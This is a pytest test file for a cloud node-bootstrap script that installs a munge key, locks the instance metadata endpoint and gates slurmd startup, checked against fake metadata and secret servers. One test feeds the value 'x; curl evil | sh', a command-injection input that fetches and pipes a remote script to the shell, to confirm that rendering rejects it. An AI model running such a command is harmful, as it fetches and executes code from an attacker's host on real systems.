"""scripts/node-bootstrap.sh, run for real under bash against fake metadata / secret endpoints.

`aws`, `systemctl` and `logger` are stub programs on PATH that record their arguments; the script writes under
BURSTD_ROOT (a temp dir) instead of /. The munge key must land 0400 and appear in no output, log or argv.
"""

from __future__ import annotations

import base64
import json
import os
import shutil
import stat
import subprocess
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from burstd.providers.bootstrap import render_startup_script

KEY = os.urandom(64) + b"MUNGE-KEY-SENTINEL"
KEY_B64 = base64.b64encode(KEY).decode()
TOKEN = "imds-token-123"

pytestmark = pytest.mark.skipif(shutil.which("curl") is None or shutil.which("python3") is None,
                                reason="needs curl and python3")


class Meta(BaseHTTPRequestHandler):
    node = "aws-7"

    def log_message(self, *a):
        pass

    def _send(self, code, body: bytes):
        self.send_response(code)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_PUT(self):
        if self.path == "/latest/api/token" and self.headers.get("X-aws-ec2-metadata-token-ttl-seconds"):
            return self._send(200, TOKEN.encode())
        self._send(403, b"")

    def do_GET(self):
        if self.path.startswith("/latest/"):
            if self.headers.get("X-aws-ec2-metadata-token") != TOKEN:
                return self._send(401, b"")  # IMDSv2 only
            if self.path == "/latest/meta-data/tags/instance/burstd:node":
                self.server.tag_reads += 1  # a gang member is tagged a moment after it boots
                if self.server.tag_reads == 1:
                    time.sleep(self.server.first_tag_read_s)  # a loaded metadata service, or a loaded test host
                if self.server.tag_reads <= self.server.tag_missing_reads:
                    return self._send(404, b"")
                return self._send(200, self.node.encode())
            if self.path == "/latest/meta-data/placement/region":
                return self._send(200, b"us-east-1")
        if self.path.startswith("/computeMetadata/v1/"):
            if self.headers.get("Metadata-Flavor") != "Google":
                return self._send(403, b"")
            sub = self.path.removeprefix("/computeMetadata/v1/")
            if sub == "instance/attributes/burstd-node" and self.server.gce_members is None:
                return self._send(200, b"gcp-2")
            if sub == "instance/attributes/burstd-members" and self.server.gce_members is not None:
                return self._send(200, json.dumps(self.server.gce_members).encode())
            if sub == "instance/name":
                return self._send(200, b"gcp-5-1a2b3c4d")
            if sub == "instance/service-accounts/default/token":
                return self._send(200, json.dumps({"access_token": "ya29.fake-token", "expires_in": 300}).encode())
        if self.path == "/v1/projects/proj1/secrets/burstd-munge-key/versions/latest:access":
            if self.headers.get("Authorization") != "Bearer ya29.fake-token":
                return self._send(401, b"")
            payload = base64.b64encode(KEY_B64.encode()).decode()
            return self._send(200, json.dumps({"name": "x", "payload": {"data": payload}}).encode())
        self._send(404, b"")


@pytest.fixture
def meta_server():
    server = ThreadingHTTPServer(("127.0.0.1", 0), Meta)
    server.tag_reads, server.tag_missing_reads = 0, 0  # AWS: how many reads of burstd:node answer 404 first
    server.first_tag_read_s = 0.0
    server.gce_members = None  # GCE: a gang member's burstd-members map instead of burstd-node
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture
def meta(meta_server):
    return f"http://127.0.0.1:{meta_server.server_address[1]}"


def stubs(tmp: Path, aws_ok: bool = True) -> Path:
    bin_dir = tmp / "bin"
    bin_dir.mkdir(exist_ok=True)
    rec = tmp / "argv.log"
    for name in ("systemctl", "logger"):
        (bin_dir / name).write_text(f'#!/bin/bash\necho "{name} $*" >> {rec}\n'
                                    + ('[[ "$1 $2" == "cat burstd-agent.service" ]] && exit 0\n' if name == "systemctl" else "")
                                    + "exit 0\n")
    # nft: records its argv and the ruleset it is fed (the rule is applied for real on the bed's VMs)
    (bin_dir / "nft").write_text(f'#!/bin/bash\necho "nft $*" >> {rec}\n[[ "$1" == "-f" ]] && cat >> {rec}\nexit 0\n')
    aws_body = f'echo "aws $*" >> {rec}\n' + (f"printf '%s\\n' '{KEY_B64}'\n" if aws_ok else "echo denied >&2; exit 255\n")
    (bin_dir / "aws").write_text("#!/bin/bash\n" + aws_body)
    for f in bin_dir.iterdir():
        f.chmod(0o755)
    return bin_dir


def run(script: str, tmp: Path, meta: str, bin_dir: Path, **extra: str) -> subprocess.CompletedProcess:
    path = tmp / "startup.sh"
    path.write_text(script)
    env = {"PATH": f"{bin_dir}:/usr/bin:/bin", "BURSTD_ROOT": str(tmp / "root"), "BURSTD_IMDS_URL": meta,
           "BURSTD_GCE_METADATA_URL": meta, "BURSTD_SECRETMANAGER_URL": meta, "HOME": str(tmp)} | extra
    return subprocess.run(["bash", str(path)], env=env, capture_output=True, text=True, timeout=60)


def check_no_leak(tmp: Path, proc: subprocess.CompletedProcess) -> None:
    rec = (tmp / "argv.log").read_text()
    for text in (proc.stdout, proc.stderr, rec):
        assert KEY_B64 not in text and "MUNGE-KEY-SENTINEL" not in text


@pytest.mark.parametrize("cloud,node,secret", [
    ("aws", "aws-7", "burstd/munge-key"),
    ("aws", "aws-7", "ssm:/burstd/munge-key"),
    ("gcp", "gcp-2", "burstd-munge-key"),
])
def test_bootstrap_installs_the_key_0400_and_starts_slurmd_configless_under_the_node_name(tmp_path, meta, cloud, node,
                                                                                          secret):
    settings = {"BURSTD_CLOUD": cloud, "BURSTD_MUNGE_SECRET": secret, "BURSTD_CONF_SERVER": "10.0.0.1:6817"}
    settings |= {"BURSTD_REGION": "us-east-1"} if cloud == "aws" else {"BURSTD_PROJECT": "proj1"}
    script = render_startup_script(settings)
    bin_dir = stubs(tmp_path)
    for _ in range(2):  # idempotent: a second run converges on the same state
        proc = run(script, tmp_path, meta, bin_dir)
        assert proc.returncode == 0, proc.stderr
    key = tmp_path / "root/etc/munge/munge.key"
    assert key.read_bytes() == KEY
    assert stat.S_IMODE(key.stat().st_mode) == 0o400
    assert [p.name for p in key.parent.iterdir()] == ["munge.key"]  # no temp file left
    dropin = (tmp_path / "root/etc/systemd/system/slurmd.service.d/burstd.conf").read_text()
    assert f"--conf-server 10.0.0.1:6817 -N {node}" in dropin
    rec = (tmp_path / "argv.log").read_text()
    assert "systemctl enable --now slurmd" in rec and "systemctl enable --now burstd-agent" in rec
    assert "logger -t burstd-bootstrap" in rec and f"bootstrapped" in proc.stderr
    # the metadata endpoint is closed to non-root users before slurmd (and so any job) starts
    lock = rec.index("ip daddr 169.254.169.254 meta skuid != 0 counter reject")
    assert lock < rec.index("systemctl enable --now slurmd") and "closed to every user but root" in proc.stderr
    check_no_leak(tmp_path, proc)
    assert KEY_B64 not in script


def test_bootstrap_refuses_to_start_slurmd_when_it_cannot_close_the_metadata_endpoint(tmp_path, meta):
    settings = {"BURSTD_CLOUD": "aws", "BURSTD_MUNGE_SECRET": "burstd/munge-key", "BURSTD_CONF_SERVER": "10.0.0.1:6817",
                "BURSTD_REGION": "us-east-1"}
    bin_dir = stubs(tmp_path)
    (bin_dir / "nft").unlink()  # an image with neither nft nor iptables
    proc = run(render_startup_script(settings), tmp_path, meta, bin_dir)
    assert proc.returncode != 0 and "cannot close 169.254.169.254" in proc.stderr
    assert "enable --now slurmd" not in (tmp_path / "argv.log").read_text()


def test_bootstrap_fails_visibly_when_the_secret_cannot_be_read(tmp_path, meta):
    script = render_startup_script({"BURSTD_CLOUD": "aws", "BURSTD_MUNGE_SECRET": "burstd/munge-key",
                                    "BURSTD_CONF_SERVER": "10.0.0.1", "BURSTD_REGION": "us-east-1"})
    proc = run(script, tmp_path, meta, stubs(tmp_path, aws_ok=False))
    assert proc.returncode != 0
    assert "FAILED: could not fetch the munge key" in proc.stderr and "burstd/munge-key" in proc.stderr
    keydir = tmp_path / "root/etc/munge"
    assert not keydir.exists() or list(keydir.iterdir()) == []
    assert "enable --now slurmd" not in (tmp_path / "argv.log").read_text()


def test_bootstrap_refuses_without_its_settings(tmp_path, meta):
    proc = run(render_startup_script({"BURSTD_CLOUD": "aws"}), tmp_path, meta, stubs(tmp_path))
    assert proc.returncode != 0 and "BURSTD_MUNGE_SECRET" in proc.stderr


def test_rendering_refuses_shell_metacharacters():
    with pytest.raises(ValueError, match="not allowed"):
        render_startup_script({"BURSTD_CONF_SERVER": "x; curl evil | sh"})
    with pytest.raises(ValueError, match="BURSTD_NAME"):
        render_startup_script({"PATH": "/tmp"})


AWS_SETTINGS = {"BURSTD_CLOUD": "aws", "BURSTD_MUNGE_SECRET": "burstd/munge-key", "BURSTD_CONF_SERVER": "10.0.0.1",
                "BURSTD_REGION": "us-east-1"}
GCP_SETTINGS = {"BURSTD_CLOUD": "gcp", "BURSTD_MUNGE_SECRET": "burstd-munge-key", "BURSTD_CONF_SERVER": "10.0.0.1",
                "BURSTD_PROJECT": "proj1"}


def slurmd_node(tmp: Path) -> str:
    dropin = (tmp / "root/etc/systemd/system/slurmd.service.d/burstd.conf").read_text()
    return dropin.rsplit(" -N ", 1)[1].strip()


def test_gcp_gang_member_finds_its_node_name_in_burstd_members(tmp_path, meta, meta_server):
    meta_server.gce_members = {"gcp-4-99999999": {"node": "gcp-4", "lease": "L4"},
                               "gcp-5-1a2b3c4d": {"node": "gcp-5", "lease": "L5"}}
    proc = run(render_startup_script(GCP_SETTINGS), tmp_path, meta, stubs(tmp_path))
    assert proc.returncode == 0, proc.stderr
    assert slurmd_node(tmp_path) == "gcp-5"
    assert (tmp_path / "root/var/lib/burstd-node/node-name").read_text() == "gcp-5\n"
    check_no_leak(tmp_path, proc)


def test_gcp_instance_missing_from_burstd_members_fails_visibly(tmp_path, meta, meta_server):
    meta_server.gce_members = {"gcp-4-99999999": {"node": "gcp-4", "lease": "L4"}}
    proc = run(render_startup_script(GCP_SETTINGS), tmp_path, meta, stubs(tmp_path))
    assert proc.returncode != 0
    assert "gcp-5-1a2b3c4d is not in burstd-members" in proc.stderr
    assert "FAILED: could not read the node name" in proc.stderr
    assert "enable --now slurmd" not in (tmp_path / "argv.log").read_text()


def test_aws_node_tag_that_appears_late_is_waited_for(tmp_path, meta, meta_server):
    meta_server.tag_missing_reads = 2  # the fleet answered; the daemon tags the member a moment later
    proc = run(render_startup_script(AWS_SETTINGS), tmp_path, meta, stubs(tmp_path),
               BURSTD_NODE_NAME_POLL_S="0.1")
    assert proc.returncode == 0, proc.stderr
    assert slurmd_node(tmp_path) == "aws-7" and meta_server.tag_reads == 3
    assert proc.stderr.count("burstd:node not there yet") == 2


def test_aws_node_tag_that_never_appears_fails_visibly_within_the_bound(tmp_path, meta, meta_server):
    meta_server.tag_missing_reads = 10**9
    meta_server.first_tag_read_s = 1.2  # the first look alone outlasts the bound: it must still look again
    proc = run(render_startup_script(AWS_SETTINGS), tmp_path, meta, stubs(tmp_path),
               BURSTD_NODE_NAME_WAIT_S="1", BURSTD_NODE_NAME_POLL_S="0.2")
    assert proc.returncode != 0
    assert "burstd:node did not appear within 1s" in proc.stderr
    assert "FAILED: could not read the node name from the aws metadata" in proc.stderr
    assert meta_server.tag_reads >= 2  # it asked again before giving up
    assert not (tmp_path / "root/etc/munge/munge.key").exists()
    assert "enable --now slurmd" not in (tmp_path / "argv.log").read_text()


def _agent_stub(tmp: Path, bin_dir: Path, rc: int, config: bool = True, enroll_rc: int = 0) -> None:
    """burstd-agent as the bootstrap sees it: records its argv, answers ``--enroll`` with ``enroll_rc`` and the
    gate with ``rc``; it prints to stdout, as a real one may (the bootstrap must not read that as its status)."""
    (bin_dir / "burstd-agent").write_text(
        f'#!/bin/bash\necho "burstd-agent $*" >> {tmp / "argv.log"}\necho "agent says hello"\n'
        f'[[ " $* " == *" --enroll "* ]] && exit {enroll_rc}\nexit {rc}\n')
    (bin_dir / "burstd-agent").chmod(0o755)
    if config:
        (tmp / "root/etc/burstd").mkdir(parents=True, exist_ok=True)
        (tmp / "root/etc/burstd/burstd.toml").write_text("[agent]\n")


def test_the_parity_gate_runs_before_slurmd_and_a_matching_node_goes_on(tmp_path, meta):
    bin_dir = stubs(tmp_path)
    _agent_stub(tmp_path, bin_dir, rc=0)
    proc = run(render_startup_script(AWS_SETTINGS), tmp_path, meta, bin_dir)
    assert proc.returncode == 0, proc.stderr
    rec = (tmp_path / "argv.log").read_text()
    gate = f"burstd-agent --config {tmp_path}/root/etc/burstd/burstd.toml --node aws-7 --parity-gate"
    assert gate in rec and rec.index(gate) < rec.index("systemctl enable --now slurmd")
    assert "parity gate: node aws-7 may take jobs" in proc.stderr


@pytest.mark.parametrize(("rc", "says"), [(1, "differs from the on-prem reference"),
                                           (3, "could not check node aws-7 (burstd-agent exit 3)")])
def test_a_node_the_parity_gate_refuses_never_starts_slurmd(tmp_path, meta, rc, says):
    bin_dir = stubs(tmp_path)
    _agent_stub(tmp_path, bin_dir, rc=rc)
    proc = run(render_startup_script(AWS_SETTINGS), tmp_path, meta, bin_dir)
    assert proc.returncode != 0 and says in proc.stderr and "slurmd not started" in proc.stderr
    rec = (tmp_path / "argv.log").read_text()
    assert "--parity-gate" in rec and "systemctl enable --now slurmd" not in rec and "slurmd.service.d" not in rec
    assert not (tmp_path / "root/etc/systemd/system/slurmd.service.d").exists()


def test_an_image_without_agent_config_has_no_gate_and_says_so(tmp_path, meta):
    bin_dir = stubs(tmp_path)
    _agent_stub(tmp_path, bin_dir, rc=1, config=False)
    proc = run(render_startup_script(AWS_SETTINGS), tmp_path, meta, bin_dir)
    assert proc.returncode == 0, proc.stderr
    assert "no parity gate" in proc.stderr and "no agent token" in proc.stderr
    rec = (tmp_path / "argv.log").read_text()
    assert "--parity-gate" not in rec and "--enroll" not in rec


def test_the_node_enrols_after_the_metadata_lock_and_before_the_gate_and_slurmd(tmp_path, meta):
    bin_dir = stubs(tmp_path)
    _agent_stub(tmp_path, bin_dir, rc=0)
    proc = run(render_startup_script(AWS_SETTINGS), tmp_path, meta, bin_dir)
    assert proc.returncode == 0, proc.stderr
    rec = (tmp_path / "argv.log").read_text()
    enrol = f"burstd-agent --config {tmp_path}/root/etc/burstd/burstd.toml --node aws-7 --enroll"
    lock = "metadata endpoint 169.254.169.254 closed to every user but root"
    assert proc.stderr.index(lock) < proc.stderr.index("agent token for node aws-7 in place")
    assert rec.index(enrol) < rec.index("--parity-gate") < rec.index("systemctl enable --now slurmd")


@pytest.mark.parametrize(("rc", "says"), [(1, "burstd refused node aws-7's instance identity"),
                                           (3, "could not enrol node aws-7 with burstd (burstd-agent exit 3)")])
def test_a_node_burstd_does_not_enrol_never_runs_the_gate_or_starts_slurmd(tmp_path, meta, rc, says):
    bin_dir = stubs(tmp_path)
    _agent_stub(tmp_path, bin_dir, rc=0, enroll_rc=rc)
    proc = run(render_startup_script(AWS_SETTINGS), tmp_path, meta, bin_dir)
    assert proc.returncode != 0 and says in proc.stderr and "slurmd not started" in proc.stderr
    rec = (tmp_path / "argv.log").read_text()
    assert "--enroll" in rec and "--parity-gate" not in rec and "systemctl enable --now slurmd" not in rec
